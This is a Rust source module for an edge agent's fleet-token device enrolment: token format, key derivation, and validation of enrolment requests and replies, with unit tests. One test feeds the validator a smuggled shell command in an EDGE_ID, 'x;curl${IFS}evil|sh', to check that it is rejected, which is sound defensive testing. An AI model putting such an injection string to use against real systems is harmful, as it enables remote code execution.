//! Onboarding many devices with one token (issue #17): the fleet join
//! token, and the enrolment request and reply a device exchanges with the
//! server while it waits to be admitted. No I/O.
//!
//! ```text
//! device                                   server
//!   POST /e  seal(token id, counter, fleet key, EnrolRequest)
//!            ──────────────────────────────▶  pending (or admitted by a rule)
//!            ◀──────────────────────────────  seal_reply(counter, fleet key, EnrolReply)
//!   ... once an interval while PENDING ...
//!            ◀──────────────────────────────  ADMITTED, environment 17
//!   polls /q as environment 17, with the secret derived from its device key
//! ```
//!
//! * A **fleet token** (`tern1f_…`) names the server, pins its certificate
//!   and carries a secret shared by every device flashed with it. It proves
//!   that a request comes from one of those devices, nothing more: what a
//!   pending device sends is shown to the operator and never acted on.
//! * Each device makes a random **device key** on its first start and keeps
//!   it in `DATA_PATH`. It goes to the server once, in the first request of
//!   a run, inside TLS pinned to the token's certificate (so the agent
//!   refuses `EDGE_INSECURE_POLL=1` with a fleet token). The server binds
//!   the pending entry to it: a second device claiming the same EDGE_ID
//!   with another key is refused, not merged.
//! * The admitted environment's secret is [`admitted_secret`] of the device
//!   key, the token and the EDGE_ID: both ends derive it, so it never
//!   crosses the link, and a sibling device that holds the same fleet token
//!   (and could ask about another's EDGE_ID) learns the environment's id
//!   and nothing it can poll with.
//! * Every reply is sealed as a poll reply is (a 16-byte tag over the
//!   request's counter and the body, under the fleet key), so nobody on
//!   the path can forge an admission, a rejection or a refusal.
//! * A pending device's later requests carry only its EDGE_ID (about 40
//!   bytes of envelope and body): waiting costs no more than an idle poll.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use prost::Message;

use crate::auth::{AuthError, Secret};
use crate::wire::pb;

/// The enrolment endpoint's path.
pub const ENROL_PATH: &str = "/e";

/// The prefix of a fleet token. Not `tern1_`'s: an agent too old to know
/// fleet tokens says the key is not a join token, instead of polling with
/// it as an environment's.
pub const FLEET_PREFIX: &str = "tern1f_";

/// The most bytes of an enrolment request the server reads (envelope and
/// body): the longest body below is about 2.5 KB.
pub const MAX_REQUEST: usize = 4096;

/// The longest EDGE_ID.
pub const MAX_EDGE_ID: usize = 128;
/// The longest hostname, version, engine or group text.
pub const MAX_TEXT: usize = 128;
/// The most tags a device may ask for.
pub const MAX_TAGS: usize = 16;
/// The longest tag.
pub const MAX_TAG: usize = 64;

/// A fleet join token: many devices, one token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FleetToken {
    /// Server URL as seen from the edge.
    pub url: String,
    /// The token's id on the server.
    pub id: u64,
    /// The token's secret, shared by the devices flashed with it.
    pub secret: Secret,
    /// SHA-256 of the server certificate (DER).
    pub cert_sha256: [u8; 32],
}

impl FleetToken {
    /// The EDGE_KEY text.
    pub fn encode(&self) -> String {
        let bytes = pb::JoinToken {
            url: self.url.clone(),
            environment: self.id,
            secret: self.secret.0.to_vec(),
            cert_sha256: self.cert_sha256.to_vec(),
        }
        .encode_to_vec();
        format!("{FLEET_PREFIX}{}", URL_SAFE_NO_PAD.encode(bytes))
    }

    /// Parses a fleet token.
    ///
    /// # Errors
    /// When the text is not one (see [`AuthError`]).
    pub fn parse(text: &str) -> Result<Self, AuthError> {
        let b64 = text.trim().strip_prefix(FLEET_PREFIX).ok_or(AuthError::TokenPrefix)?;
        // The same checks as an environment's token, through its parser.
        let t = crate::auth::JoinToken::parse(&format!("{}{b64}", crate::auth::TOKEN_PREFIX))?;
        Ok(Self { url: t.url, id: t.environment, secret: t.secret, cert_sha256: t.cert_sha256 })
    }

    /// A short, non-secret name of the token (16 hex digits), kept with the
    /// device's enrolment so a new token starts a new one.
    pub fn key_id(&self) -> String {
        let mut h = blake3::Hasher::new_derive_key("tern v1 fleet token id");
        h.update(&self.id.to_le_bytes());
        h.update(&self.secret.0);
        h.finalize().as_bytes()[..8].iter().map(|b| format!("{b:02x}")).collect()
    }
}

/// Whether an EDGE_KEY is a fleet token (by its prefix).
pub fn is_fleet_key(text: &str) -> bool {
    text.trim().starts_with(FLEET_PREFIX)
}

/// The secret of the environment a device is admitted as: derived from its
/// device key, the token's id and its EDGE_ID, on both ends.
pub fn admitted_secret(device_key: &[u8; 32], token: u64, edge_id: &str) -> Secret {
    let mut h = blake3::Hasher::new_derive_key("tern v1 admitted environment secret");
    h.update(device_key);
    h.update(&token.to_le_bytes());
    h.update(edge_id.as_bytes());
    Secret(*h.finalize().as_bytes())
}

/// The key a device's requests that do not describe it are sealed with
/// (and their replies): the token's key (with the server's AGENT_SECRET
/// mixed in, as polls do) and the device's own key, so that only the
/// device that first described itself can ask about its entry, even among
/// devices holding the same token.
pub fn device_mac_key(fleet_key: &Secret, device_key: &[u8; 32]) -> Secret {
    let mut h = blake3::Hasher::new_derive_key("tern v1 enrolment device key");
    h.update(&fleet_key.0);
    h.update(device_key);
    Secret(*h.finalize().as_bytes())
}

/// Whether an EDGE_ID is one the agent itself would take from EDGE_ID:
/// letters, digits, `-`, `_`, `.` and `:` (it goes into deploy commands).
pub fn edge_id_ok(id: &str) -> bool {
    !id.is_empty() && id.len() <= MAX_EDGE_ID && id.chars().all(|c| c.is_ascii_alphanumeric() || "-_.:".contains(c))
}

/// What a device says about itself (first request of a run).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Description {
    /// Its device key.
    pub device_key: [u8; 32],
    /// The engine host's name.
    pub hostname: String,
    /// The agent's version.
    pub agent_version: String,
    /// The engine's version and OS.
    pub engine: String,
    /// EDGE_GROUP.
    pub group: String,
    /// EDGE_TAGS.
    pub tags: Vec<String>,
}

/// An enrolment request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnrolRequest {
    /// The device's EDGE_ID (empty when it asks by [`Self::device`]).
    pub edge_id: String,
    /// The number the server gave the device (0: none yet), which names it
    /// in fewer bytes than its EDGE_ID.
    pub device: u64,
    /// Present on a run's first request and when the server asks.
    pub description: Option<Description>,
}

/// Why an enrolment body was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum EnrolError {
    /// Not the message.
    #[error("not an enrolment request")]
    Malformed,
    /// A field out of bounds.
    #[error("{0}")]
    Field(String),
}

fn clean(name: &str, text: &str, max: usize) -> Result<String, EnrolError> {
    let t = text.trim();
    if t.len() > max {
        return Err(EnrolError::Field(format!("{name} is longer than {max} bytes")));
    }
    if t.chars().any(char::is_control) {
        return Err(EnrolError::Field(format!("{name} holds control characters")));
    }
    Ok(t.to_owned())
}

impl EnrolRequest {
    /// The body's bytes.
    pub fn encode(&self) -> Vec<u8> {
        let d = self.description.clone().unwrap_or_default();
        let described = self.description.is_some();
        pb::EnrolRequest {
            edge_id: self.edge_id.clone(),
            device_key: if described { d.device_key.to_vec() } else { Vec::new() },
            hostname: d.hostname,
            agent_version: d.agent_version,
            engine: d.engine,
            group: d.group,
            tags: d.tags,
            device: self.device,
        }
        .encode_to_vec()
    }

    /// Decodes and checks a body: every text bounded and free of control
    /// characters, at most [`MAX_TAGS`] tags.
    ///
    /// # Errors
    /// [`EnrolError`] naming what is wrong.
    pub fn decode(body: &[u8]) -> Result<Self, EnrolError> {
        let m = pb::EnrolRequest::decode(body).map_err(|_| EnrolError::Malformed)?;
        let edge_id = clean("EDGE_ID", &m.edge_id, MAX_EDGE_ID)?;
        if edge_id.is_empty() && (m.device == 0 || !m.device_key.is_empty()) {
            return Err(EnrolError::Field("EDGE_ID is empty".into()));
        }
        if !edge_id.is_empty() && !edge_id_ok(&edge_id) {
            return Err(EnrolError::Field("EDGE_ID: use up to 128 letters, digits, '-', '_', '.' or ':'".into()));
        }
        if m.device > i64::MAX as u64 {
            return Err(EnrolError::Field("the device number is out of range".into()));
        }
        let description = if m.device_key.is_empty() {
            None
        } else {
            let device_key: [u8; 32] =
                m.device_key.try_into().map_err(|_| EnrolError::Field("the device key is not 32 bytes".into()))?;
            if m.tags.len() > MAX_TAGS {
                return Err(EnrolError::Field(format!("more than {MAX_TAGS} tags")));
            }
            let mut tags = Vec::new();
            for t in &m.tags {
                let t = clean("a tag", t, MAX_TAG)?;
                if t.contains(',') {
                    return Err(EnrolError::Field("a tag holds a comma".into()));
                }
                if !t.is_empty() && !tags.contains(&t) {
                    tags.push(t);
                }
            }
            Some(Description {
                device_key,
                hostname: clean("hostname", &m.hostname, MAX_TEXT)?,
                agent_version: clean("agent version", &m.agent_version, MAX_TEXT)?,
                engine: clean("engine", &m.engine, MAX_TEXT)?,
                group: clean("group", &m.group, MAX_TEXT)?,
                tags,
            })
        };
        Ok(Self { edge_id, device: m.device, description })
    }
}

/// Where a device stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EnrolState {
    /// Waiting for the operator.
    Pending,
    /// Admitted as this environment.
    Admitted(u64),
    /// The operator rejected it: why.
    Rejected(String),
    /// The token cannot be used (expired, used up, revoked), or the EDGE_ID
    /// is taken: why.
    Refused(String),
    /// The server does not know the device: describe it again.
    Describe,
}

/// An enrolment reply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnrolReply {
    /// Where the device stands.
    pub state: EnrolState,
    /// Seconds until it should ask again (0: its default).
    pub interval: u32,
    /// The device's number, to ask by from now on (0: not sent).
    pub device: u64,
}

/// The longest reason text a reply carries.
pub const MAX_REASON: usize = 300;

impl EnrolReply {
    /// The body's bytes.
    pub fn encode(&self) -> Vec<u8> {
        use pb::enrol_reply::State;
        let (state, environment, reason) = match &self.state {
            EnrolState::Pending => (State::Pending, 0, String::new()),
            EnrolState::Admitted(id) => (State::Admitted, *id, String::new()),
            EnrolState::Rejected(r) => (State::Rejected, 0, r.clone()),
            EnrolState::Refused(r) => (State::Refused, 0, r.clone()),
            EnrolState::Describe => (State::Describe, 0, String::new()),
        };
        let mut reason = reason;
        if reason.len() > MAX_REASON {
            let mut end = MAX_REASON;
            while !reason.is_char_boundary(end) {
                end -= 1;
            }
            reason.truncate(end);
        }
        pb::EnrolReply { state: state as i32, environment, reason, interval: self.interval, device: self.device }
            .encode_to_vec()
    }

    /// Decodes a reply (after its tag was checked).
    ///
    /// # Errors
    /// When it is not one, or names no environment when admitted.
    pub fn decode(body: &[u8]) -> Result<Self, EnrolError> {
        use pb::enrol_reply::State;
        let m = pb::EnrolReply::decode(body).map_err(|_| EnrolError::Malformed)?;
        let state = match State::try_from(m.state).map_err(|_| EnrolError::Malformed)? {
            State::Pending => EnrolState::Pending,
            State::Admitted if m.environment == 0 || m.environment > i64::MAX as u64 => {
                return Err(EnrolError::Field("admitted as no environment".into()));
            }
            State::Admitted => EnrolState::Admitted(m.environment),
            State::Rejected => EnrolState::Rejected(m.reason),
            State::Refused => EnrolState::Refused(m.reason),
            State::Describe => EnrolState::Describe,
        };
        if m.device > i64::MAX as u64 {
            return Err(EnrolError::Field("the device number is out of range".into()));
        }
        Ok(Self { state, interval: m.interval, device: m.device })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> FleetToken {
        FleetToken { url: "https://ops.example.com:9443".into(), id: 4, secret: Secret([3; 32]), cert_sha256: [8; 32] }
    }

    #[test]
    fn fleet_tokens_round_trip_and_are_not_environment_tokens() {
        let t = token();
        let text = t.encode();
        assert!(text.starts_with("tern1f_") && is_fleet_key(&text));
        assert_eq!(FleetToken::parse(&text).unwrap(), t);
        assert_eq!(crate::auth::JoinToken::parse(&text), Err(AuthError::TokenPrefix));
        let env = crate::auth::JoinToken {
            url: t.url.clone(),
            environment: 4,
            secret: Secret([3; 32]),
            cert_sha256: [8; 32],
        };
        assert_eq!(FleetToken::parse(&env.encode()), Err(AuthError::TokenPrefix));
        assert_ne!(t.key_id(), env.key_id());
    }

    #[test]
    fn requests_round_trip_and_a_waiting_one_is_small() {
        let described = EnrolRequest {
            edge_id: "tern-0123456789abcdef".into(),
            device: 0,
            description: Some(Description {
                device_key: [7; 32],
                hostname: "cam-17".into(),
                agent_version: "0.1.0".into(),
                engine: "Docker 27.3.1 (linux)".into(),
                group: "north".into(),
                tags: vec!["solar".into(), "cam".into(), "solar".into()],
            }),
        };
        let back = EnrolRequest::decode(&described.encode()).unwrap();
        assert_eq!(back.description.as_ref().unwrap().tags, ["solar", "cam"], "duplicates dropped");
        let waiting = EnrolRequest { edge_id: described.edge_id.clone(), device: 0, description: None };
        let body = waiting.encode();
        assert_eq!(EnrolRequest::decode(&body).unwrap(), waiting);
        assert!(body.len() <= 24, "{} B", body.len());
        // Once numbered, a waiting device's request is a few bytes.
        let numbered = EnrolRequest { edge_id: String::new(), device: 1234, description: None };
        let body = numbered.encode();
        assert_eq!(EnrolRequest::decode(&body).unwrap(), numbered);
        assert!(body.len() <= 3, "{} B", body.len());
    }

    #[test]
    fn bad_requests_say_what_is_wrong() {
        let req = |edge_id: &str, key: Vec<u8>, tags: Vec<String>| {
            pb::EnrolRequest { edge_id: edge_id.into(), device_key: key, tags, ..Default::default() }.encode_to_vec()
        };
        assert_eq!(EnrolRequest::decode(b"\xff\xff"), Err(EnrolError::Malformed));
        assert!(EnrolRequest::decode(&req("", vec![], vec![])).is_err(), "no EDGE_ID and no number");
        let described_by_number =
            pb::EnrolRequest { device: 5, device_key: vec![1; 32], ..Default::default() }.encode_to_vec();
        assert!(EnrolRequest::decode(&described_by_number).is_err(), "a description comes with its EDGE_ID");
        assert!(EnrolRequest::decode(&req(&"x".repeat(200), vec![], vec![])).is_err());
        assert!(EnrolRequest::decode(&req("a\nb", vec![], vec![])).is_err());
        assert!(EnrolRequest::decode(&req("x;curl${IFS}evil|sh", vec![], vec![])).is_err(), "shell in an EDGE_ID");
        assert!(EnrolRequest::decode(&req("a", vec![1; 31], vec![])).is_err());
        assert!(EnrolRequest::decode(&req("a", vec![1; 32], vec!["t".into(); 17])).is_err());
        assert!(EnrolRequest::decode(&req("a", vec![1; 32], vec!["t".repeat(65)])).is_err());
    }

    #[test]
    fn replies_round_trip_and_an_admission_names_an_environment() {
        for state in [
            EnrolState::Pending,
            EnrolState::Admitted(17),
            EnrolState::Rejected("not ours".into()),
            EnrolState::Refused("the token expired".into()),
            EnrolState::Describe,
        ] {
            let r = EnrolReply { state, interval: 60, device: 9 };
            assert_eq!(EnrolReply::decode(&r.encode()).unwrap(), r);
        }
        let zero = pb::EnrolReply { state: 1, ..Default::default() }.encode_to_vec();
        assert!(EnrolReply::decode(&zero).is_err());
        let long = EnrolReply { state: EnrolState::Refused("é".repeat(400)), interval: 0, device: 0 };
        assert!(EnrolReply::decode(&long.encode()).is_ok());
    }

    #[test]
    fn the_admitted_secret_depends_on_key_token_and_edge_id() {
        let s = admitted_secret(&[1; 32], 4, "cam-17");
        assert_eq!(s, admitted_secret(&[1; 32], 4, "cam-17"));
        assert_ne!(s, admitted_secret(&[2; 32], 4, "cam-17"));
        assert_ne!(s, admitted_secret(&[1; 32], 5, "cam-17"));
        assert_ne!(s, admitted_secret(&[1; 32], 4, "cam-18"));
    }
}
